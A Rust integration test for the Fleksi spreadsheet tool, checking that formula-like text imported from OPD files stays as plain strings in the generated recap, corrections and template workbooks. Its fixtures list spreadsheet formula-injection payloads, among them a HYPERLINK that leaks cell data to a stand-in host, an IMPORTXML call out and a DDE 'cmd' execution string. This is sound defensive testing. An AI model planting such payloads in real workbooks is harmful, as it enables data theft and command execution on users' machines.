//! Text from OPD files can never become a formula in a workbook Fleksi writes (issue 14,
//! item 6): names, positions, a unit name and status cells starting with `=`, `+`, `-` or
//! `@` (tests/fixtures/hostile, written by openpyxl) come back as string cells in the recap,
//! the OPD template and the annotated error workbook, and only our own formulas exist.

mod common;

use std::io::Cursor;

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use common::{request, scratch};
use fleksi_workspace::Workspace;

fn hostile_dir() -> std::path::PathBuf {
    std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/hostile")
}

/// The texts of the fixture (see make_hostile.py) that start like a formula.
const NAMES: [&str; 4] = [
    "=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik di sini\")",
    "+62 812-3456-7890",
    "@SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
];
const POSITIONS: [&str; 2] = [
    "@Pranata Komputer",
    "=IMPORTXML(\"http://contoh.invalid\",\"//a\")",
];
const UNIT_NAME: &str = "=HYPERLINK(\"http://contoh.invalid\",\"Diskominfo\")";
const STATUSES: [&str; 2] = ["=1+1", "@WFA"];

/// Every cell of every sheet: (sheet, value), plus every formula's text.
fn cells_and_formulas(bytes: &[u8]) -> (Vec<(String, Data)>, Vec<String>) {
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("xlsx opens");
    let mut cells = Vec::new();
    let mut formulas = Vec::new();
    for name in wb.sheet_names() {
        let range = wb.worksheet_range(&name).expect("sheet");
        cells.extend(
            range
                .used_cells()
                .map(|(_, _, v)| (name.clone(), v.clone())),
        );
        let f = wb.worksheet_formula(&name).expect("formulas");
        formulas.extend(
            f.used_cells()
                .map(|(_, _, v)| v.clone())
                .filter(|v| !v.is_empty()),
        );
    }
    (cells, formulas)
}

/// Every text of `texts` appears in the workbook, always as a string cell.
fn assert_texts_are_strings(what: &str, cells: &[(String, Data)], texts: &[&str]) {
    for text in texts {
        let found: Vec<&(String, Data)> = cells
            .iter()
            .filter(|(_, v)| match v {
                Data::String(s) => s.contains(text),
                other => other.to_string().contains(text),
            })
            .collect();
        assert!(!found.is_empty(), "{what}: {text:?} not written");
        for (sheet, v) in found {
            assert!(
                matches!(v, Data::String(_)),
                "{what}/{sheet}: {text:?} is {v:?}"
            );
        }
    }
}

/// No `<f>` element in any worksheet part (checked on the raw XML, not through a reader).
fn formula_elements(bytes: &[u8]) -> Vec<String> {
    fleksi_testkit::zip_names(bytes)
        .into_iter()
        .filter(|n| n.starts_with("xl/worksheets/sheet"))
        .flat_map(|n| {
            let xml = fleksi_testkit::zip_part(bytes, &n).expect("sheet part");
            xml.match_indices("<f>")
                .chain(xml.match_indices("<f "))
                .map(|(i, _)| xml[i..(i + 80).min(xml.len())].to_string())
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn opd_text_that_looks_like_a_formula_stays_text_in_every_workbook() {
    let dir = scratch("hostile");
    let ws = Workspace::new(dir.join("fleksi.sqlite3"), None);
    ws.load();
    let master = hostile_dir().join("master.xlsx");
    let outcome = ws
        .import(
            &request(
                "lebak-2025-12",
                Some(&master),
                &[hostile_dir().join("diskominfo.xlsx")],
            ),
            &|_| {},
        )
        .expect("the hostile file imports");
    assert_eq!(outcome.summary.files.len(), 1);
    let snap = ws.snapshot().expect("snapshot");
    let unknown: Vec<&str> = snap
        .session
        .findings
        .iter()
        .filter(|f| f.code == fleksi_core::FindingCode::StatusUnknown)
        .filter_map(|f| f.cell.as_deref())
        .collect();
    assert_eq!(
        unknown,
        ["D3", "E5"],
        "the two hostile status cells are findings"
    );

    // Recap: names, positions and the unit name as strings; no formula at all.
    let recap = dir.join("rekap.xlsx");
    ws.save_recap(&recap).expect("recap saved");
    let bytes = std::fs::read(&recap).expect("recap");
    let (cells, formulas) = cells_and_formulas(&bytes);
    assert_texts_are_strings("rekap", &cells, &NAMES);
    assert_texts_are_strings("rekap", &cells, &[UNIT_NAME]);
    assert!(formulas.is_empty(), "rekap formulas: {formulas:?}");
    assert!(
        formula_elements(&bytes).is_empty(),
        "{:?}",
        formula_elements(&bytes)
    );

    // Error workbook: the OPD's own cells (names, positions, raw statuses) as strings.
    let koreksi = dir.join("koreksi.xlsx");
    ws.save_corrections("DISKOMINFO", &koreksi)
        .expect("corrections saved");
    let bytes = std::fs::read(&koreksi).expect("corrections");
    let (cells, formulas) = cells_and_formulas(&bytes);
    assert_texts_are_strings("koreksi", &cells, &NAMES);
    assert_texts_are_strings("koreksi", &cells, &POSITIONS);
    assert_texts_are_strings("koreksi", &cells, &STATUSES);
    assert!(formulas.is_empty(), "koreksi formulas: {formulas:?}");
    assert!(
        formula_elements(&bytes).is_empty(),
        "{:?}",
        formula_elements(&bytes)
    );

    // Template: the master's names and positions as strings; its only formulas are the
    // totals it computes itself (COUNTIF of a column, WFA share).
    let template = dir.join("templat.xlsx");
    ws.save_template("DISKOMINFO", &template)
        .expect("template saved");
    let bytes = std::fs::read(&template).expect("template");
    let (cells, formulas) = cells_and_formulas(&bytes);
    assert_texts_are_strings("templat", &cells, &NAMES);
    assert_texts_are_strings("templat", &cells, &POSITIONS);
    assert!(!formulas.is_empty(), "the template's totals");
    // The raw-XML check sees them too (so its silence above means something).
    assert_eq!(formula_elements(&bytes).len(), formulas.len());
    for f in &formulas {
        let f = f.trim_start_matches('=');
        let own =
            f.starts_with("COUNTIF(") || f.chars().all(|c| c.is_ascii_alphanumeric() || c == '/');
        assert!(own, "template formula not ours: {f:?}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}
